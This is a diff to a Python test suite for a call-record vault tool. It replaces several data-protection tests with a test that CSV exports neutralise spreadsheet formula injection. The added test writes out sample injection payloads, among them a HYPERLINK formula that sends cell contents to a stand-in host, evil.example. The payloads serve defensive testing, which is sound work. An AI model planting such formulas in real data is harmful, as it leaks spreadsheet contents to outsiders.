@@ -220,7 +220,9 @@ def export_for_call_accounting():
         rows = list(csv.DictReader(io.StringIO(
             ok("export", "cdr", "--data", d).out)))
         expect(len(rows) == 7, rows)
-        expect(rows[0]["caller"] == "+4930123456789" and
+        # Issue 25.4: a number starts like a formula, so it is written
+        # as text for spreadsheets (docs/export.md).
+        expect(rows[0]["caller"] == "'+4930123456789" and
                rows[0]["duration_s"] == "403" and
                rows[0]["billsec_s"] == "397", rows[0])
         expect([r["outcome"] for r in rows].count("answered") == 5, rows)
@@ -244,106 +246,37 @@ def export_for_call_accounting():
 
 
 @test
-def data_items_and_protection():
-    """R1.4/R5.3: items sealed; protected ones hidden, never logged"""
+def csv_export_runs_no_formula():
+    """Issue 25.4 (OWASP CSV injection): a value that starts with =, +, -,
+    @, a tab or a carriage return (an outcome a feed posted over the API)
+    leaves the CSV export as text: prefixed with a quote, never a
+    formula; the JSON export keeps it as it is"""
+    import csv
+    import io
+    from harness import ADMIN_PW, Server, api_vault
+    evil = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3",
+            "@SUM(A1:A9)", "\tcmd", "\r=1"]
     with TempDir() as tmp:
-        d = new_vault(tmp)
-        conf = os.path.join(d, "cxvault.conf")
-        text = open(conf).read().replace("log_level = 3", "log_level = 9")
-        open(conf, "w").write(text.replace("hide_private_data = yes",
-                                           "hide_private_data = no"))
-        import_master(d)
-        iid = str(listing(d, "--phone", "+4930123456789")[0]["interaction"])
-        ok("interaction", "item", "--data", d, iid, "--name", "account",
-           "--value", "DE44500105175407324931", "--to", "agent,cdr")
-        ok("interaction", "item", "--data", d, iid, "--name", "card_pin",
-           "--value", "90817263", "--protected", "--to", "ivr_report")
-        items = json.loads(ok("interaction", "show", "--data", d,
-                              iid).out)["items"]
-        expect([(i["name"], i["value"], i["destinations"]) for i in items] ==
-               [("account", "DE44500105175407324931", 3),
-                ("card_pin", "[protected]", 4)], items)
-        shown = json.loads(ok("interaction", "show", "--data", d, iid,
-                              "--reveal").out)["items"]
-        expect(shown[1]["value"] == "90817263", shown)
-        log = open(os.path.join(d, "logs", "cxvault.log")).read()
-        expect("90817263" not in log and "value=[protected]" in log, log[-500:])
-        expect(files_containing(d, [b"DE445001", b"90817263"]) ==
-               [(os.path.join("logs", "cxvault.log"), b"DE445001")],
-               "item in clear outside the level-9 log")
-        reads = [json.loads(l)["fields"] for l in ok(
-            "audit", "list", "--data", d).out.splitlines()
-            if '"interaction.read"' in l]
-        expect(reads == ["fields,trail,items",
-                         "fields,trail,items,protected"], reads)
-        fails(cx("interaction", "item", "--data", d, iid, "--name", "x",
-                 "--value", "y", "--to", "fax"), 2, "--to")
-        fails(cx("interaction", "item", "--data", d, "99", "--name", "x",
-                 "--value", "y"), 1, "no such interaction")
-
-
-@test
-def sessions_of_every_media():
-    """R1.3: chat, email, SMS sessions with trail and fields, no CDR feed"""
-    with TempDir() as tmp:
-        d = new_vault(tmp)
-        ok("interaction", "add", "--data", d, "--media", "chat", "--chat",
-           "bo.stenlund", "--name", "Bo Stenlund", "--start",
-           "2026-11-24T10:00:00Z", "--answer", "2026-11-24T10:00:30Z",
-           "--end", "2026-11-24T10:10:00Z", "--outcome", "answered",
-           "--field", "queue=Banking", "--field", "subject=card lost")
-        ok("interaction", "add", "--data", d, "--media", "email", "--email",
-           "Bo.Stenlund@example.se", "--start", "2026-11-24T11:00:00Z",
-           "--outcome", "abandoned")
-        chats = listing(d, "--chat", "bo.stenlund")
-        expect([c["media"] for c in chats] == ["chat"], chats)
-        show = json.loads(ok("interaction", "show", "--data", d,
-                             str(chats[0]["interaction"])).out)
-        expect(show["fields"]["queue"] == "Banking" and
-               show["fields"]["subject"] == "card lost", show)
-        expect([s["step"] for s in show["trail"]] ==
-               ["entered_service", "answered", "completed"], show)
-        mails = listing(d, "--email", "bo.stenlund@example.se")
-        expect([(m["media"], m["outcome"]) for m in mails] ==
-               [("email", "abandoned")], mails)
-        expect(files_containing(d, [b"Stenlund", b"card lost"]) == [],
-               "session data in clear")
-        fails(cx("interaction", "add", "--data", d, "--media", "fax",
-                 "--chat", "x", "--start", "2026-11-24T10:00:00Z",
-                 "--outcome", "answered"), 2, "--media")
-        fails(cx("interaction", "add", "--data", d, "--media", "sms",
-                 "--phone", "+4930111222", "--start", "2026-11-24T10:00:00Z",
-                 "--end", "2026-11-24T09:00:00Z", "--outcome", "answered"),
-              1, "times out of order")
-        fails(cx("interaction", "add", "--data", d, "--media", "sms",
-                 "--phone", "+4930111222", "--start", "2026-11-24T10:00:00Z",
-                 "--outcome", "Answered!"), 1, "outcome")
-
-
-@test
-def traffic_statistics():
-    """R1.8: per-day statistics from pseudonymized rows, no numbers"""
-    with TempDir() as tmp:
-        d = new_vault(tmp)
-        import_master(d)
-        days = [json.loads(l) for l in
-                ok("stats", "--data", d).out.splitlines()]
-        expect(days == [
-            {"day": "2026-11-02", "calls": 5, "answered": 3,
-             "duration_s": 930, "numbers": 5},
-            {"day": "2026-11-03", "calls": 1, "answered": 1,
-             "duration_s": 244, "numbers": 1}], days)
-        one = [json.loads(l) for l in ok("stats", "--data", d, "--since",
-                                         "2026-11-03").out.splitlines()]
-        expect(len(one) == 1, one)
-        cols = [r[0] for r in db_rows(
-            d, "SELECT name FROM pragma_table_info('traffic_stat')"
-            if not ON_PG else "SELECT column_name FROM "
-            "information_schema.columns WHERE table_name = 'traffic_stat'")]
-        ps = {r[0] for r in db_rows(d, "SELECT number_ps FROM traffic_stat")}
-        expect("subject_id" not in cols, cols)
-        expect(all(p.startswith("ps:") for p in ps) and len(ps) == 5, ps)
-
+        d = api_vault(tmp)
+        with Server(d) as s:
+            feed = s.feed_token(s.login("root", ADMIN_PW), "cdr.ingest")
+            for n, v in enumerate(evil):
+                st, _, doc = s.call("POST", "/v1/cdr", {
+                    "id": f"x-{n}", "caller": "+49 30 1111111",
+                    "callee": "+49 30 2222222",
+                    "start": f"2026-11-20T10:0{n}:00Z", "outcome": v},
+                    token=feed)
+                expect(st == 201, doc)
+        rows = list(csv.reader(io.StringIO(ok("export", "cdr", "--data",
+                                              d).out, newline="")))
+        cells = [c for r in rows[1:] for c in r]
+        expect(all(c == "" or c[0] not in "=+-@\t\r" for c in cells),
+               cells)
+        expect(sorted(r[rows[0].index("outcome")] for r in rows[1:]) ==
+               sorted("'" + v for v in evil), rows)
+        js = [json.loads(l)["outcome"] for l in ok(
+            "export", "cdr", "--data", d, "--format", "json").out.splitlines()]
+        expect(sorted(js) == sorted(evil), js)
 
 if __name__ == "__main__":
     main()
